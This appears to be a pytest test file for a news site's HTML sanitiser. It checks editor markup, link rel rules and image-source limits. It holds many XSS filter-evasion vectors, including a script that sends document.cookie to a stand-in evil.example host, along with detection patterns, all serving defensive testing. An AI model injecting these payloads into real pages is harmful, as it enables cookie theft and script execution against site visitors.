import html
import re
from html.parser import HTMLParser

import pytest

from richtext.sanitize import ALLOWED_TAGS, sanitize_rich_text


@pytest.fixture(autouse=True)
def site_url(settings):
    settings.SITE_URL = "https://news.example"


# What CKEditor 5 produces with the article toolbar: headings, inline styles, links,
# lists, a quote, an aligned image with a caption and a table.
CKEDITOR_BODY = (
    "<h2>Flooding closes the river road</h2>"
    "<p>The <strong>river road</strong> was closed on <i>Tuesday</i> after heavy rain, "
    'the <a href="/local/rain-warning-issued/">council said</a>. '
    'Read the <a href="https://news.example/local/flood-map/">flood map</a> or '
    '<a href="mailto:desk@news.example">email the desk</a>.&nbsp;</p>'
    "<ul><li>Buses are diverted.</li><li>Schools are open.</li></ul>"
    "<ol><li>First</li><li>Second</li></ol>"
    "<blockquote><p>We have never seen water this high.</p></blockquote>"
    '<figure class="image image-style-align-left">'
    '<img src="/uploads/images/2025/05/river-road.jpg" alt="Water covers the river road" '
    'width="1200" height="800">'
    "<figcaption>The river road on Tuesday morning.</figcaption></figure>"
    "<h3>Rainfall</h3>"
    '<figure class="table"><table><thead><tr><th>Town</th><th>Rain (mm)</th></tr></thead>'
    '<tbody><tr><td>Riverside</td><td>84</td></tr><tr><td colspan="2">Source: Met office</td></tr></tbody>'
    "</table></figure>"
    "<h4>Notes</h4><p>Line one<br>line two, H<sub>2</sub>O, 10<sup>th</sup>, <u>under</u>, <s>struck</s>.</p><hr>"
)

EXTERNAL_LINK = '<p>Data from the <a href="https://weather.example/report?id=4&amp;lang=en">agency</a>.</p>'


def test_editor_markup_survives_unchanged():
    assert sanitize_rich_text(CKEDITOR_BODY) == CKEDITOR_BODY


def test_empty_input_gives_an_empty_string():
    assert sanitize_rich_text("") == ""
    assert sanitize_rich_text(None) == ""


def test_external_links_get_noopener():
    assert sanitize_rich_text(EXTERNAL_LINK) == (
        '<p>Data from the <a href="https://weather.example/report?id=4&amp;lang=en" rel="noopener">agency</a>.</p>'
    )


@pytest.mark.parametrize(
    "link",
    [
        '<a href="/war/some-article/">internal</a>',
        '<a href="some-article/">relative</a>',
        '<a href="#notes">anchor</a>',
        '<a href="https://news.example/war/">absolute, same site</a>',
        '<a href="http://NEWS.example:8000/war/">other port, same host</a>',
        '<a href="mailto:desk@news.example">mail</a>',
    ],
)
def test_internal_and_mailto_links_get_no_rel(link):
    assert sanitize_rich_text(link) == link


@pytest.mark.parametrize(
    "link",
    [
        '<a href="//evil.example/">protocol-relative</a>',
        '<a href="/\\evil.example/">backslash</a>',
        '<a href="HTTPS://Elsewhere.example">upper case</a>',
        '<a href="https://news.example.evil.example/">lookalike host</a>',
    ],
)
def test_links_leaving_the_site_get_noopener(link):
    assert sanitize_rich_text(link).endswith(' rel="noopener">' + link.split(">", 1)[1])


def test_rel_and_target_from_the_input_are_replaced():
    assert sanitize_rich_text('<a href="/a/" rel="nofollow" target="_blank">x</a>') == '<a href="/a/">x</a>'
    assert sanitize_rich_text('<a href="https://elsewhere.example/" target="_blank" rel="opener">x</a>') == (
        '<a href="https://elsewhere.example/" rel="noopener">x</a>'
    )


def test_site_host_comes_from_settings(settings):
    settings.SITE_URL = "http://127.0.0.1:8000"
    assert (
        sanitize_rich_text('<a href="http://127.0.0.1:8000/war/">x</a>') == '<a href="http://127.0.0.1:8000/war/">x</a>'
    )
    assert 'rel="noopener"' in sanitize_rich_text('<a href="https://news.example/war/">x</a>')


def test_figure_keeps_only_editor_classes():
    assert sanitize_rich_text('<figure class="image evil image_resized" style="width:50%">x</figure>') == (
        '<figure class="image image_resized">x</figure>'
    )
    assert sanitize_rich_text('<figure class="evil">x</figure>') == "<figure>x</figure>"
    assert sanitize_rich_text('<p class="image">x</p>') == "<p>x</p>"


def test_image_keeps_responsive_attributes_with_library_urls():
    image = (
        '<img src="/uploads/images/2026/12/a.jpg" alt="A" '
        'srcset="/uploads/renditions/a-640.jpg 640w, /uploads/renditions/a-1280.jpg 1280w" sizes="100vw">'
    )
    assert sanitize_rich_text(image) == image
    assert sanitize_rich_text(
        '<img src="/uploads/a.jpg" srcset="/uploads/a.jpg 1x, data:image/png;base64,AAAA 2x">'
    ) == ('<img src="/uploads/a.jpg">')
    assert (
        sanitize_rich_text('<img src="/uploads/a.jpg" width="50%" height="40">')
        == '<img src="/uploads/a.jpg" height="40">'
    )


@pytest.mark.parametrize(
    "src",
    [
        "https://tracker.example/pixel.gif?reader=1",  # a tracking pixel
        "https://cdn.example/uploads/a.jpg",  # a library-looking path on another host
        "//tracker.example/uploads/a.jpg",
        "/\\tracker.example/uploads/a.jpg",
        "/uploads/../admin/logout/",  # leaves the library
        "/static/img/logo.png",
        "mailto:a@b.example",
    ],
)
def test_images_from_outside_the_photo_library_are_dropped(src):
    """Issue 9, finding 12 (in part): bodies loaded images from any host."""
    assert sanitize_rich_text(f'<p>Text</p><figure class="image"><img src="{src}" alt="x"></figure>') == (
        '<p>Text</p><figure class="image"></figure>'
    )


def test_images_from_the_library_on_the_site_or_its_own_host_are_kept(settings):
    settings.SITE_URL = "https://news.example"
    kept = '<img src="https://news.example/uploads/a.jpg">'
    assert sanitize_rich_text(kept) == kept
    settings.MEDIA_URL = "https://uploads.news.example/"
    kept = '<img src="https://uploads.news.example/images/a.jpg">'
    assert sanitize_rich_text(kept) == kept


@pytest.mark.parametrize("url", ["`javascript:alert(1)`", "x:y/z", " \x01javascript:alert(1)"])
def test_urls_shaped_like_an_unknown_scheme_are_dropped(url):
    assert sanitize_rich_text(f'<a href="{url}">x</a><img src="{url}">') == "<a>x</a>"


def test_headings_outside_the_editor_levels_lose_their_tags_but_keep_text():
    assert sanitize_rich_text("<h1>Big</h1><h5>Small</h5><h6>Tiny</h6>") == "BigSmallTiny"
    assert sanitize_rich_text('<p><span style="color:red">red</span></p>') == "<p>red</p>"


# Filter-evasion attempts in the spirit of the OWASP XSS Filter Evasion Cheat Sheet.
XSS_VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    '<script src="https://evil.example/x.js"></script>',
    "<SCRIPT SRC=//evil.example/.j>",
    "<script\n>alert(1)</script\n>",
    "<script/xss src=//evil.example/x.js></script>",
    "<<script>alert(1);//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<script>alert(1)<!--</script>",
    "<p>safe</p><script>document.location='https://evil.example/?'+document.cookie</script>",
    "<img src=x onerror=alert(1)>",
    '<IMG SRC="javascript:alert(1);">',
    "<IMG SRC=javascript:alert(1)>",
    "<IMG SRC=JaVaScRiPt:alert(1)>",
    "<IMG SRC=`javascript:alert(1)`>",
    '<IMG SRC="jav\tascript:alert(1);">',
    '<IMG SRC="jav&#x09;ascript:alert(1);">',
    '<IMG SRC="jav&#x0A;ascript:alert(1);">',
    '<IMG SRC=" &#14;  javascript:alert(1);">',
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;"
    "&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>",
    "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099"
    "&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x31&#x29>",
    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
    "<img src=x onerror=alert(1)//",
    "<img src=x onerror\x00=alert(1)>",
    '<img src="x" onerror="&#97;lert(1)">',
    '<IMG SRC=# onmouseover="alert(1)">',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<img srcset="javascript:alert(1) 1x, data:text/html,x 2x" src="/ok.jpg">',
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text x=20 y=20>click</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><mi xlink:href=javascript:alert(1)>click</mi></math>",
    "<body onload=alert(1)>",
    "<BODY ONLOAD=alert(1)>",
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    '<a href="  javascript:alert(1)">click</a>',
    '<a href="java\tscript:alert(1)">click</a>',
    '<a href="java\nscript:alert(1)">click</a>',
    '<a href="java&#13;script:alert(1)">click</a>',
    '<a href="&#106;avascript:alert(1)">click</a>',
    '<a href="&#x6A;avascript&colon;alert(1)">click</a>',
    '<a href="javascript&#58;alert(1)">click</a>',
    '<a href="\x01javascript:alert(1)">click</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
    '<a href="DATA:text/html,<script>alert(1)</script>">click</a>',
    '<a href="vbscript:msgbox(1)">click</a>',
    '<a href="VBScript:msgbox(1)">click</a>',
    '<a href="/safe" onmouseover="alert(1)">hover</a>',
    '<a href="/safe" style="background:url(javascript:alert(1))">styled</a>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<IFRAME SRC="https://evil.example/"></IFRAME>',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<OBJECT TYPE="text/x-scriptlet" DATA="https://evil.example/x.html"></OBJECT>',
    '<embed src="data:image/svg+xml;base64,PHN2Zz4=">',
    '<EMBED SRC="https://evil.example/x.swf" AllowScriptAccess="always">',
    '<form action="javascript:alert(1)"><input type="submit"></form>',
    '<form><button formaction="javascript:alert(1)">go</button></form>',
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1);">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html;base64,PHNjcmlwdD4=">',
    '<link rel="stylesheet" href="javascript:alert(1);">',
    "<style>@import 'https://evil.example/xss.css';</style>",
    '<STYLE>li {list-style-image: url("javascript:alert(1)");}</STYLE><UL><LI>x</LI></UL>',
    '<style>body{background:url("javascript:alert(1)")}</style>',
    '<div style="background-image: url(javascript:alert(1))">x</div>',
    '<div style="width: expression(alert(1));">x</div>',
    '<p style="xss:expr/*XSS*/ession(alert(1))">x</p>',
    '<base href="javascript:alert(1)//">',
    '<BASE HREF="https://evil.example/">',
    "<isindex type=image src=1 onerror=alert(1)>",
    "<isindex action=javascript:alert(1) type=submit value=click>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    '<table background="javascript:alert(1)"><tr><td onclick=alert(1)>x</td></tr></table>',
    '<td colspan="2" onmouseover="alert(1)">x</td>',
    '<figure class="image" onclick="alert(1)"><img src="/a.jpg" onload="alert(1)"></figure>',
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    "<xmp><script>alert(1)</script></xmp>",
    "<title><img src=x onerror=alert(1)></title>",
    "<noembed><img src=x onerror=alert(1)></noembed>",
    '<a href="/safe"><svg onload=alert(1)></svg></a>',
    "<p><a href=javascript:alert(1)>x</a></p>",
    '<a href="javascript:alert(1)"\x00>x</a>',
    "<h2 onclick=alert(1)>x</h2>",
    "<blockquote cite=javascript:alert(1) onmouseover=alert(1)>x</blockquote>",
    '<p><img src=/ok.jpg alt="x" onerror="alert(1)">text</p>',
]

FORBIDDEN = (
    "<script",
    "javascript:",
    "vbscript:",
    "data:",
    "onerror",
    "onload",
    "onfocus",
    "ontoggle",
    "onmouseover",
    "<iframe",
    "<object",
    "<embed",
    "<form",
    "<style",
    "style=",
    "<svg",
    "<meta",
    "<link",
    "<base",
)
EVENT_HANDLER = re.compile(r"[\s/\"'`]on\w+\s*=")


class _TagCollector(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))


def test_there_are_plenty_of_vectors():
    assert len(XSS_VECTORS) >= 40


@pytest.mark.parametrize("vector", XSS_VECTORS)
def test_xss_vector_is_neutralised(vector):
    output = sanitize_rich_text(vector)
    for text in (output.lower(), html.unescape(output).lower()):
        for needle in FORBIDDEN:
            assert needle not in text, f"{needle!r} in {output!r}"
        assert not EVENT_HANDLER.search(text), output

    collector = _TagCollector()
    collector.feed(output)
    for tag, attributes in collector.tags:
        assert tag in ALLOWED_TAGS
        assert not [name for name, _value in attributes if name.startswith("on") or name == "style"]


def test_unquoted_attribute_swallowing_a_handler_leaves_it_as_inert_text():
    # The space after "SRC=" makes the parser read the handler as the src value
    # itself: a (broken) relative URL outside the library, so the image goes.
    assert sanitize_rich_text("<IMG SRC= onmouseover=\"alert('xxs')\">") == ""


@pytest.mark.parametrize("markup", [CKEDITOR_BODY, EXTERNAL_LINK, *XSS_VECTORS])
def test_sanitising_twice_changes_nothing(markup):
    once = sanitize_rich_text(markup)
    assert sanitize_rich_text(once) == once


def test_tag_soup_that_the_parser_reshapes_still_settles_in_one_call():
    # Dropping <div> leaves a heading inside a heading, which the parser splits on the
    # next read; the sanitiser has already done so.
    once = sanitize_rich_text("<h2>Title<div><h3>Sub</h3></div></h2>")
    assert once == "<h2>Title</h2><h3>Sub</h3>"
    assert sanitize_rich_text(once) == once
